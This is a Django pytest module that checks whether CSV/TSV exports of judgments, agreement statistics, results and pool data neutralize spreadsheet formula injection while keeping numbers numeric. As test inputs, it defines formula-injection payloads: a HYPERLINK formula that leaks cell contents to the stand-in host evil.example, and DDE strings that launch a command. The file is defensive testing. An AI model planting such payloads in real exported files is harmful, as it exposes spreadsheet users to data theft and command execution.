"""Every CSV/TSV export neutralizes cells a spreadsheet would run as formulas.

Each export is downloaded the way an organizer does, with hostile text from the people who wrote
it (a participant's team name and file name, an assessor's comment, an organizer's round name);
numbers and grades, negative ones included, must stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from assessment.models import Assignment
from evaluation.models import EvaluationJob
from evaluation.services import evaluation_job_run, qrels_export
from tests.factories import (
    AssignmentFactory,
    ContributionFactory,
    HitFactory,
    JudgmentFactory,
    PoolItemFactory,
    RetrievalTaskFactory,
    RunFactory,
    TeamFactory,
    TopicFactory,
    TrainingRoundFactory,
    UserFactory,
)
from tests.integration.evaluation_data import judged_answer_task

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'
DDE = "-cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def organizer() -> Client:
    client = Client()
    client.force_login(UserFactory.create(is_staff=True))
    return client


def _rows(body: bytes | str) -> list[dict[str, str]]:
    text = body.decode() if isinstance(body, bytes) else body
    return list(csv.DictReader(io.StringIO(text)))


def _streamed(response) -> bytes:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_judgments_csv_neutralizes_comment_and_round_name_when_they_start_a_formula(
    organizer: Client,
) -> None:
    task = RetrievalTaskFactory.create()
    topic = TopicFactory.create(task=task)
    hits = [HitFactory.create(item=PoolItemFactory.create(topic=topic)) for _ in range(2)]
    official = AssignmentFactory.create(topic=topic)
    JudgmentFactory.create(assignment=official, hit=hits[0], grade=3, comment=HYPERLINK)
    rounds = TrainingRoundFactory.create(task=task, name=AT_SUM)
    training = AssignmentFactory.create(
        topic=topic, purpose=Assignment.Purpose.TRAINING, training_round=rounds
    )
    JudgmentFactory.create(
        assignment=training, hit=hits[1], grade=None, flag="dont_know", comment="\tTAB"
    )
    body = _streamed(organizer.get(reverse("assessment:organize_export_judgments", args=[task.pk])))
    rows = {row["training_round"]: row for row in _rows(body)}
    assert rows[""]["comment"] == "'" + HYPERLINK
    assert rows[""]["grade"] == "3"
    assert rows["'" + AT_SUM]["comment"] == "'\tTAB"
    assert float(rows[""]["active_seconds"]) >= 0


def test_agreement_csv_keeps_a_negative_kappa_a_number_when_a_name_is_neutralized(
    organizer: Client,
) -> None:
    task = RetrievalTaskFactory.create()
    topic = TopicFactory.create(task=task)
    first = UserFactory.create(username="-2+3")  # legal for Django, a formula for a spreadsheet
    second = UserFactory.create(username="bob")
    official = AssignmentFactory.create(topic=topic, assessor=first)
    dual = AssignmentFactory.create(topic=topic, assessor=second, purpose=Assignment.Purpose.DUAL)
    # Always the opposite grade: kappa is negative.
    for a_grade in (0, 3, 0, 3, 0, 3, 1, 2):
        hit = HitFactory.create(item=PoolItemFactory.create(topic=topic))
        JudgmentFactory.create(assignment=official, hit=hit, grade=a_grade)
        JudgmentFactory.create(assignment=dual, hit=hit, grade=3 - a_grade)
    body = _streamed(organizer.get(reverse("assessment:organize_export_agreement", args=[task.pk])))
    pair = next(row for row in _rows(body) if row["scope"] == "task")
    assert {pair["assessor_a"], pair["assessor_b"]} == {"'-2+3", "bob"}
    assert pair["kappa_4way"].startswith("-")
    assert float(pair["kappa_4way"]) < 0


@pytest.mark.parametrize("fmt", ["csv", "topics"])
def test_results_csv_neutralizes_team_and_file_names_when_a_participant_chose_them(
    organizer: Client, fmt: str
) -> None:
    data = judged_answer_task()
    data.alpha.team.name = HYPERLINK
    data.alpha.team.save()
    data.alpha.file_name = DDE
    data.alpha.save()
    qrels = qrels_export(task=data.task)
    evaluation_job_run(job=EvaluationJob.objects.create(task=data.task, qrels=qrels, seed=1))
    response = organizer.get(reverse("evaluation:results-download", args=[data.task.pk, fmt]))
    assert response.status_code == 200
    rows = _rows(response.content)
    alpha = [row for row in rows if row["run"].endswith("/alpha")]
    assert alpha
    assert all(row["run"] == f"'{HYPERLINK}/alpha" for row in alpha)
    if fmt == "csv":
        assert alpha[0]["file"] == "'" + DDE
        assert 0 < float(alpha[0]["ndcg_prime"]) <= 1
    else:
        assert all(0 <= float(row["ndcg_prime"]) <= 1 for row in alpha)


@pytest.mark.parametrize("kind", ["hits", "annotated"])
def test_pool_export_neutralizes_team_and_tag_when_they_start_a_formula(
    organizer: Client, kind: str
) -> None:
    task = RetrievalTaskFactory.create()
    topic = TopicFactory.create(task=task, number="A.1")
    run = RunFactory.create(task=task, team=TeamFactory.create(name=HYPERLINK), tag="-1+2")
    item = PoolItemFactory.create(topic=topic, post_id=77, key="77")
    HitFactory.create(item=item, post_id=77)
    ContributionFactory.create(item=item, run=run, rank=4)
    body = _streamed(organizer.get(reverse("pooling:pool-export", args=[task.pk, kind])))
    header, line = body.decode().splitlines()[:2]
    cells = dict(zip(header.split("\t"), line.split("\t"), strict=True))
    if kind == "hits":
        assert cells["runs"] == f"'{HYPERLINK}/-1+2:4"
        assert cells["vote"].replace(".", "").isdigit()
    else:
        assert (cells["team"], cells["run"], cells["rank"]) == ("'" + HYPERLINK, "'-1+2", "4")
    assert cells["key"] == "77"
